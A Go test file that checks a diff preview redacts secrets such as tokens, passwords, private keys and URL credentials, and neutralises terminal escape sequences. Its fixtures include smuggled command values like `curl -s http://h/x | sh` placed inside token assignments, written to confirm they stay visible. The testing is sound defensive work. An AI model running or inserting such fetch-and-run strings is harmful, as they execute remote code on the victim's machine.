// Copyright the steward-setup authors.
// SPDX-License-Identifier: Apache-2.0

// Law of this file: nothing that would be written is hidden, and nothing that
// was secret before is shown.

package text

import (
	"io/fs"
	"strings"
	"testing"
	"unicode"

	"github.com/steward-setup/steward-setup/internal/report"
	"github.com/steward-setup/steward-setup/internal/report/preview"
)

// Put together here, so that no scanner takes this file for a leak.
var (
	token = "ghp_" + strings.Repeat("a1", 18)
	key   = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA " + "PRIVATE KEY-----\n"
)

// body is the preview without its header.
func body(before, after string) string {
	d := Diff(report.Change{Path: "/p", Before: []byte(before), After: []byte(after)})
	if i := strings.Index(d, " @@\n"); i >= 0 {
		return d[i+len(" @@\n"):]
	}
	return d
}

func TestAPreviewHidesOnlyWhatTheFileHeld(t *testing.T) {
	for name, c := range map[string]struct{ before, after, want string }{
		"a command in the place of a token": {"echo\n", "echo\nGH_TOKEN=`curl -s http://h/x | sh`\n",
			" echo\n+GH_TOKEN=`curl -s http://h/x | sh`\n"},
		"a command in quotes": {"", "TOKEN=\"a;$(curl h|sh)\"\n", "+TOKEN=\"a;$(curl h|sh)\"\n"},
		"a new secret":        {"a\n", "a\npassword: new\n", " a\n+password: new\n"},
		"another value":       {"TOKEN=old\n", "TOKEN=new\n", "-TOKEN=[redacted]\n+TOKEN=new\n"},
		"context and what goes": {"TOKEN=abc\nPASSWORD=def\n", "TOKEN=abc\n",
			" TOKEN=[redacted]\n-PASSWORD=[redacted]\n"},
		"a comma gained": {"{\n  \"api_key\": \"a b\"\n}\n", "{\n  \"api_key\": \"a b\",\n  \"x\": 1\n}\n",
			" {\n-  \"api_key\": \"[redacted]\"\n+  \"api_key\": \"[redacted]\",\n+  \"x\": 1\n }\n"},
		"moved to the right":          {"TOKEN='a;b'\n", "\tTOKEN='a;b'\n", "-TOKEN='[redacted]'\n+\tTOKEN='[redacted]'\n"},
		"the same value, other words": {"TOKEN='a;b'\n", "TOKEN='a;b' eval\n", "-TOKEN='[redacted]'\n+TOKEN='a;b' eval\n"},
		"a document of one line": {`{"token":"` + token + `"}`, `{"token":"` + token + `","x":"` + token + `1"}`,
			"-{\"token\":\"[redacted]\"}\n\\ No newline at end of file\n+{\"token\":\"[redacted]\",\"x\":\"" + token +
				"1\"}\n\\ No newline at end of file\n"},
		"a command in a document of one line": {`{"command":"make T_TOKEN=hunter2"}`, `{"x":1,"command":"make T_TOKEN=hunter2","y":2}`,
			"-{\"command\":\"make T_TOKEN=[redacted]\n\\ No newline at end of file\n" +
				"+{\"x\":1,\"command\":\"make T_TOKEN=[redacted]\",\"y\":2}\n\\ No newline at end of file\n"},
		"a short one in a document of one line": {`{"command":"make T_TOKEN=pin1"}`, `{"command":"make T_TOKEN=pin1","y":2}`,
			"-{\"command\":\"make T_TOKEN=[redacted]\n\\ No newline at end of file\n" +
				"+{\"command\":\"make T_TOKEN=[redacted]\",\"y\":2}\n\\ No newline at end of file\n"},
		"two with spaces in a document of one line": {`{"a":"x --password 'a; b'","b":"x --token 'c; d'"}`,
			`{"a":"x --password 'a; b'","b":"x --token 'c; d'","c":"x --token 'e; f'"}`,
			"-{\"a\":\"x --password [redacted] --token [redacted]\n\\ No newline at end of file\n" +
				"+{\"a\":\"x --password [redacted]\",\"b\":\"x --token [redacted]\",\"c\":\"x --token 'e; f'\"}\n" +
				"\\ No newline at end of file\n"},
		"two short ones in a document of one line": {`{"a":"T_TOKEN=pin1","b":"U_TOKEN=pin2"}`,
			`{"a":"T_TOKEN=pin1","b":"U_TOKEN=pin2","c":"U_TOKEN=pin3"}`,
			"-{\"a\":\"T_TOKEN=[redacted]\n\\ No newline at end of file\n" +
				"+{\"a\":\"T_TOKEN=[redacted]\",\"b\":\"U_TOKEN=[redacted]\",\"c\":\"U_TOKEN=pin3\"}\n" +
				"\\ No newline at end of file\n"},
		"a password in a document of one line": {`{"password":"a;b c"}`, `{"password":"a;b c","y":2}`,
			"-{\"password\":\"[redacted]\"}\n\\ No newline at end of file\n" +
				"+{\"password\":\"[redacted]\",\"y\":2}\n\\ No newline at end of file\n"},
		"the middle of a key":        {key + "c\n", key + "x\n", strings.Repeat(" [redacted]\n", 3) + "-c\n+x\n"},
		"a key, and a blank line":    {key, "\n" + key, "+\n" + strings.Repeat(" [redacted]\n", 3)},
		"a key that goes":            {key, "x\n", strings.Repeat("-[redacted]\n", 4) + "+x\n"},
		"what a terminal would obey": {"a\n", "a\x1b[2J\r\n", "-a\n+a␛[2J␍\n"},
	} {
		if got := body(c.before, c.after); got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", name, got, c.want)
		}
	}
}

func TestTheTargetOfALinkIsShownAsItWillBe(t *testing.T) {
	got := Diff(report.Change{Path: "/p", Mode: fs.ModeSymlink, Before: []byte("https://u:pw@h"),
		After: []byte("TOKEN=x\n+ y")})
	if want := "- symlink to https://u:[redacted]@h\n+ symlink to \"TOKEN=x\\n+ y\"\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func FuzzDiff(f *testing.F) {
	f.Add("TOKEN=a\nb", "TOKEN=a,\nb\n\x1b[2J")
	f.Add(key, "x\n"+key)
	f.Add("", "\x00")
	f.Fuzz(func(t *testing.T, before, after string) {
		d := Diff(report.Change{Path: "/p\n+x", Before: []byte(before), After: []byte(after)})
		raw := preview.Diff(report.Change{Path: "/p\n+x", Before: []byte(before), After: []byte(after)})
		if strings.Count(d, "\n") != strings.Count(raw, "\n") {
			t.Fatalf("%q became %q", raw, d)
		}
		if strings.ContainsFunc(d, func(r rune) bool { return unicode.IsControl(r) && r != '\n' && r != '\t' }) {
			t.Fatalf("a control character is left in %q", d)
		}
	})
}

// TestOneLongLineIsShownEntryByEntry: a person sees which entries come and go, in the words of the file; a document has
// the file's own lines, and no secret is shown for it.
func TestOneLongLineIsShownEntryByEntry(t *testing.T) {
	own := `{"model":"opus","permissions":{"allow":["Bash(npm test)"]},"note":"` + strings.Repeat("x", 60) + `"`
	c := report.Change{Path: "/p", Before: []byte(own + "}\n"),
		After: []byte(own + `,"sandbox":{"enabled":true,"network":{"allowedDomains":["a.example"]}}}` + "\n")}
	got := Read(c)
	for _, want := range []string{"shown entry by entry\n", "\n+  \"sandbox\": {\n+    \"enabled\": true,\n",
		"+        \"a.example\"\n"} {
		if !strings.Contains(got, want) {
			t.Errorf("lacks %q:\n%s", want, got)
		}
	}
	if strings.Contains(got, "-  \"model\"") || Stat(c) != "+9 −1" {
		t.Errorf("%s:\n%s", Stat(c), got)
	}
	if d := Diff(c); !strings.Contains(d, "\n-"+own+"}\n") {
		t.Errorf("a document has other lines than the file:\n%s", d)
	}
	c.Before, c.After = c.After, nil
	if got := Read(c); !strings.Contains(got, "-        \"a.example\"\n") {
		t.Errorf("removed:\n%s", got)
	}
	for name, file := range map[string]string{
		"a secret that only its neighbour gives away": `{"args":["--password","hunter2hunter2"],"note":"` +
			strings.Repeat("x", 60) + `"}`,
		"a token": `{"env":{"GH_TOKEN":"` + token + `"},"note":"` + strings.Repeat("x", 60) + `"}`,
	} {
		c := report.Change{Path: "/p", Before: []byte(file), After: []byte(strings.Replace(file, "{", `{"y":1,`, 1))}
		if got := Read(c); strings.Contains(got, "hunter2") || strings.Contains(got, token) {
			t.Errorf("%s is shown:\n%s", name, got)
		}
	}
	beside := `{"a":"--password","b":"hunter2hunter2","note":"` + strings.Repeat("x", 60) + `"}`
	for name, same := range map[string]report.Change{
		"hides more": {Path: "/p", Before: []byte(beside), After: []byte(strings.Replace(beside, "{", `{"y":1,`, 1))},
		"short":      {Path: "/p", Before: []byte("{}\n"), After: []byte("{\"a\":1}\n")},
		"no JSON":    {Path: "/p", Before: []byte(strings.Repeat("x", 99)), After: []byte("y")},
		"a link":     {Path: "/p", Mode: fs.ModeSymlink, After: []byte("/" + strings.Repeat("x", 99))}} {
		if got := Read(same); got != Diff(same) {
			t.Errorf("%s: %s", name, got)
		}
	}
}
